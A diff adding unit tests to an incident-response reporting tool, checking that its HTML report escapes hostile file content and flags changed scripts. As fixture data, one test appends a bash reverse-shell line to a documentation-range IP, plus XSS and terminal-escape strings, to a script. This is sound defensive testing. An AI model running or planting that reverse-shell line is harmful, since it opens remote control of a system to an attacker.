@@ -18,6 +18,7 @@ from irkit.evidence.writer import BundleWriter, Origin
 from irkit.models import Change, FileFacts
 from irkit.review import report
 from irkit.text import text_fields
+from tests.unit.compare.small_sides import side
 
 ORIGIN = Origin("test", "<img src=x>", "made up")
 SCRIPT = "/tmp/<script>alert(1)</script>"
@@ -159,3 +160,23 @@ def test_never_inside_the_bundle_nor_over_a_link(bundle: Path, tmp_path: Path) -
     assert not list(bundle.rglob("page.html")) and not (tmp_path / "elsewhere").exists()
     (tmp_path / "empty").mkdir()
     assert run(["report", str(tmp_path / "empty")]) == ExitCode.USAGE
+
+
+def test_text_diffs_and_folded_counts(tmp_path: Path) -> None:
+    folder = tmp_path / "bundle"
+    shell = b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 # <script>alert(1)</script>\x1b[2J\n"
+    before = {"/opt/run.sh": b"#!/bin/sh\necho fine\n", "/var/log/app.log": b"a\n"}
+    after = {"/opt/run.sh": before["/opt/run.sh"] + shell, "/var/log/app.log": b"a\nb\n", "/srv/x.txt": b"new\n"}
+    side(folder, before, dict(after))
+    page = report.write_report(folder, [], tmp_path / "page.html").path
+    text = harmless(page)
+    assert " echo fine\n+bash -i &gt;&amp; /dev/tcp" in text and "\\x1b[2J" in text
+    assert "/opt/run.sh (+1 −0)" in text, "a text with a finding"
+    assert "+new" not in text and "+b\n" not in text, "no other one"
+    assert "<td>logs</td><td>Logs</td><td>1</td>" in text
+
+
+def test_what_the_comparison_could_not_look_at_is_told(tmp_path: Path) -> None:
+    side(tmp_path / "bundle", {}, {"/opt/long": b"#!/bin/sh\n" + b"# pad\n" * 200_000})
+    text = harmless(report.write_report(tmp_path / "bundle", [], tmp_path / "page.html").path)
+    assert "rules searched their beginning only" in text
